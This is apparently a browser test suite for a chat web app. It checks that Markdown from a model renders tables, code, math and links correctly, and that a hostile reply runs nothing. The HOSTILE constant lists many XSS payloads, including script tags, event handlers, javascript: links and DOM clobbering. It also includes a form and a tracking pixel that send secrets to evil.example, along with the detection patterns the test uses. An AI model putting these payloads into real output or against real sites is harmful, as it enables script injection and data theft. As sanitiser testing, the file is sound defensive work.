import { type OpenAIProtocolReplay, startOpenAIProtocolReplay } from "@hearth/engine/testing";
import { type Message, signedInAdmin, type TestClient } from "@hearth/server/testing";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { seriousViolations } from "./axe.ts";
import { type BrowserHarness, canRunBrowser, signInThroughTheApp, startBrowserHarness } from "./browser.ts";

/**
 * The reply as the replay streams it (OpenAI's protocol, as a real provider would): cut into small
 * pieces, so tags and links also arrive half-written while the reply renders incrementally.
 */
function streamed(text: string) {
  const chunk = (delta: object, finishReason: string | null = null) => ({
    data: {
      id: "chatcmpl-markdown",
      object: "chat.completion.chunk",
      created: 1745920000,
      model: "gpt-test",
      choices: [{ index: 0, delta, logprobs: null, finish_reason: finishReason }],
    },
  });
  const pieces = text.match(/[\s\S]{1,7}/g) ?? [];
  return [
    chunk({ role: "assistant", content: "" }),
    ...pieces.map((content) => chunk({ content })),
    chunk({}, "stop"),
    { data: "[DONE]" },
  ];
}

const LOGGED = "console.log(`<script>$" + "{answer}</script>`);";
const CODE = `const answer: number = 42;\n${LOGGED}`;

const RICH = `## Results

| Name | Score |
|------|------:|
| Ada  | 10    |

- [x] a finished task
- [ ] an open task

\`\`\`ts
${CODE}
\`\`\`

The area is $$\\pi r^2$$, and:

$$
\\int_0^1 x^2 \\, dx = \\frac{1}{3}
$$

Read [the guide](https://example.com/guide) and **mind the details**.
`;

/** Script, handlers, javascript:/data: links, frames, SVG, styles, clobbering and exfiltration, as a model might write them. */
const HOSTILE = `Here is what you asked for.

<script>window.__pwned = "script"; alert("script")</script>

<img src="x" onerror="window.__pwned = 'onerror'; alert('onerror')">

<svg onload="window.__pwned = 'svg'; alert('svg')"><script>alert("svg script")</script><animate onbegin="alert('animate')" attributeName="x" dur="1s"/></svg>

<iframe src="javascript:alert('iframe')"></iframe>
<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<object data="javascript:alert('object')"></object>
<embed src="javascript:alert('embed')">

<a href="javascript:alert('html link')">an HTML link</a> and <a href="JaVaScRiPt:alert('mixed case')">a mixed-case one</a>

[a Markdown link](javascript:alert('markdown link')) and [an encoded one](&#106;avascript:alert('entity')) and [a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<div style="position:fixed;inset:0;background:red" onclick="alert('overlay')">an overlay</div>
<style>body { display: none !important; }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert('meta')">

<form action="https://evil.example/steal"><input name="secret"><button formaction="javascript:alert('form')">go</button></form>

<details open ontoggle="alert('toggle')"><summary>more</summary>hidden</details>

<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')">

<a id="__hearthClobbered" name="__hearthClobbered">a named anchor</a> <img name="__hearthImage" src="https://evil.example/i.png">

![a tracking pixel](https://evil.example/pixel.png?conversation=secret)

$$\\href{javascript:alert('katex')}{click the formula}$$

Done.`;

describe.runIf(canRunBrowser)("the web app in Chromium: Markdown from a model", () => {
  let harness: BrowserHarness;
  let replay: OpenAIProtocolReplay;
  let ada: TestClient;
  let page: Page;
  const dialogs: string[] = [];
  const requested: string[] = [];
  beforeAll(async () => {
    replay = await startOpenAIProtocolReplay(["gpt-test"]);
    harness = await startBrowserHarness({
      providers: [{ id: "replay", kind: "openai-compatible", baseUrl: `${replay.url}/v1`, timeoutSeconds: 5 }],
    });
    ada = await signedInAdmin(harness.server);
    const context = await harness.newContext({ permissions: ["clipboard-read", "clipboard-write"] });
    page = await context.newPage();
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on("request", (request) => requested.push(request.url()));
    await page.goto("/");
    await signInThroughTheApp(page);
  });
  afterAll(async () => {
    await harness?.close();
    await replay?.close();
  });

  const reply = () => page.locator('article[data-role="assistant"]').last();
  const clipboard = () =>
    page.evaluate(() =>
      (
        globalThis as unknown as { navigator: { clipboard: { readText(): Promise<string> } } }
      ).navigator.clipboard.readText(),
    );

  /** Opens a new conversation on the replay, sends a message and waits for the scripted reply to finish. */
  const replyWith = async (text: string): Promise<string> => {
    const { id } = (await ada.post<{ id: string }>("/api/conversations", { model: "replay/gpt-test" })).body;
    replay.script = streamed(text);
    await page.goto(`/c/${id}`);
    const composer = page.getByRole("textbox", { name: "Message", exact: true });
    await composer.fill("Show me");
    await composer.press("Enter");
    await page.locator('article[data-role="assistant"][data-status="done"]').waitFor({ timeout: 30_000 });
    const stored = (await ada.get<{ data: Message[] }>(`/api/conversations/${id}/messages`)).body.data;
    expect(stored.at(-1)?.content).toBe(text);
    return id;
  };

  it("renders GFM tables and task lists, highlighted code with a copy button, KaTeX math and safe links", async () => {
    await replyWith(RICH);
    const article = reply();
    await article.getByRole("heading", { name: "Results" }).waitFor();
    expect(await article.getByRole("columnheader").allTextContents()).toEqual(["Name", "Score"]);
    expect(await article.getByRole("cell").allTextContents()).toEqual(["Ada", "10"]);
    const tasks = article.getByRole("checkbox");
    expect(await tasks.count()).toBe(2);
    expect(await tasks.nth(0).isChecked()).toBe(true);
    expect(await tasks.nth(1).isChecked()).toBe(false);

    // Highlighted: the code is split into coloured tokens (shiki, with its JavaScript regex engine).
    const code = article.locator("pre").first();
    await expect.poll(() => code.locator("span[style]").count(), { timeout: 10_000 }).toBeGreaterThan(3);
    expect(await code.textContent()).toContain(LOGGED);
    await article.getByRole("button", { name: "Copy code" }).click();
    await expect.poll(async () => (await clipboard()).trimEnd()).toBe(CODE);

    expect(await article.locator(".katex").count()).toBeGreaterThanOrEqual(2);
    expect(await article.locator(".katex-display").count()).toBe(1);
    expect(await article.locator(".katex-error").count()).toBe(0);
    expect(await article.locator("strong").textContent()).toBe("mind the details");

    const link = article.getByRole("link", { name: "the guide" });
    expect(await link.getAttribute("href")).toBe("https://example.com/guide");
    expect(await link.getAttribute("target")).toBe("_blank");
    expect((await link.getAttribute("rel"))?.split(" ")).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));

    // Ctrl+Shift+; copies the last code block of the conversation.
    await page.evaluate(() =>
      (
        globalThis as unknown as { navigator: { clipboard: { writeText(text: string): Promise<void> } } }
      ).navigator.clipboard.writeText(""),
    );
    await page.keyboard.press("Control+Shift+Semicolon");
    await expect.poll(clipboard).toBe(CODE);

    for (const theme of ["light", "dark"]) {
      await page.getByRole("combobox", { name: "Theme" }).selectOption(theme);
      // Colours change with a transition: the scan reads them once it has run.
      await page.evaluate(async () => {
        const { document } = globalThis as unknown as {
          document: { getAnimations(): { constructor: { name: string }; finished: Promise<unknown> }[] };
        };
        const transitions = document
          .getAnimations()
          .filter((animation) => animation.constructor.name === "CSSTransition");
        await Promise.all(transitions.map((transition) => transition.finished.catch(() => {})));
      });
      expect(await seriousViolations(page)).toEqual([]);
    }
    await page.getByRole("combobox", { name: "Theme" }).selectOption("system");
    expect(harness.problems).toEqual([]);
  }, 120_000);

  it("runs nothing from a hostile reply, streamed or reloaded: no script, handler, frame, style or javascript: link", async () => {
    await replyWith(HOSTILE);
    await reply().getByText("Done.").waitFor();
    await expectNothingRan();
    // Clicking what were links does nothing either.
    await reply().getByText("a Markdown link").click();
    await reply().getByText("an HTML link").click();
    await reply().getByText("an overlay").click();
    await reply().locator(".katex-html").last().click();
    await expectNothingRan();

    // Rendered from the stored message rather than from the stream: the same.
    await page.reload();
    await reply().getByText("Done.").waitFor();
    await expectNothingRan();
    expect(harness.problems).toEqual([]);
  }, 120_000);

  async function expectNothingRan(): Promise<void> {
    await page.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    const found = await page.evaluate(() => {
      const scope = globalThis as unknown as {
        __pwned?: unknown;
        __hearthClobbered?: unknown;
        document: {
          __hearthImage?: unknown;
          body: unknown;
          querySelectorAll(selector: string): ArrayLike<{ querySelectorAll(selector: string): ArrayLike<DomElement> }>;
        };
        getComputedStyle(element: unknown): { display: string };
      };
      interface DomElement {
        tagName: string;
        attributes: ArrayLike<{ name: string; value: string }>;
      }
      const articles = scope.document.querySelectorAll('article[data-role="assistant"]');
      const article = articles[articles.length - 1];
      const elements = Array.from(article?.querySelectorAll("*") ?? []);
      const forbiddenTags = ["SCRIPT", "IFRAME", "OBJECT", "EMBED", "STYLE", "LINK", "BASE", "META", "FORM", "IMG"];
      const unsafeUrl = /^\s*(javascript|data|vbscript):/i;
      return {
        globals: [scope.__pwned, scope.__hearthClobbered, scope.document.__hearthImage].filter(
          (value) => value !== undefined,
        ).length,
        bodyDisplay: scope.getComputedStyle(scope.document.body).display,
        tags: elements.filter((element) => forbiddenTags.includes(element.tagName.toUpperCase())).map((e) => e.tagName),
        handlers: elements.flatMap((element) =>
          Array.from(element.attributes)
            .filter((attribute) => attribute.name.toLowerCase().startsWith("on"))
            .map((attribute) => `${element.tagName} ${attribute.name}`),
        ),
        urls: elements.flatMap((element) =>
          Array.from(element.attributes)
            .filter((attribute) =>
              ["href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"].includes(attribute.name),
            )
            .filter((attribute) => unsafeUrl.test(attribute.value) || attribute.name === "srcdoc")
            .map((attribute) => `${element.tagName} ${attribute.name}=${attribute.value}`),
        ),
        styled: elements.filter((element) =>
          Array.from(element.attributes).some(
            (attribute) => attribute.name === "style" && /fixed|display/.test(attribute.value),
          ),
        ).length,
        openers: elements.filter(
          (element) =>
            element.tagName === "A" &&
            Array.from(element.attributes).some((attribute) => attribute.name === "target") &&
            !Array.from(element.attributes).some(
              (attribute) =>
                attribute.name === "rel" && /noopener/.test(attribute.value) && /noreferrer/.test(attribute.value),
            ),
        ).length,
      };
    });
    expect(found).toEqual({
      globals: 0,
      bodyDisplay: "block",
      tags: [],
      handlers: [],
      urls: [],
      styled: 0,
      openers: 0,
    });
    // The tracking pixel is a link to follow, never a request: the page asked evil.example for nothing.
    expect(
      await reply()
        .getByRole("link", { name: /a tracking pixel/ })
        .getAttribute("href"),
    ).toBe("https://evil.example/pixel.png?conversation=secret");
    expect(requested.filter((url) => !url.startsWith(harness.server.url))).toEqual([]);
  }
});
